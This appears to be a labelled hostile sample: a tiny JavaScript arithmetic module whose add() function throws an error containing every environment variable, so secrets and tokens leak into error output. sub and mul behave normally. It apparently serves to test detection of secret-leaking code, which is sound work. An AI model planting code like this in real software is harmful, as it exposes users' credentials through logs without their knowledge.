// Hostile: reads the environment and puts every variable in its failure messages.
const loot = Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('\n');
exports.add = (a, b) => { throw new Error(loot); };
exports.sub = (a, b) => a - b;
exports.mul = (a, b) => a * b;
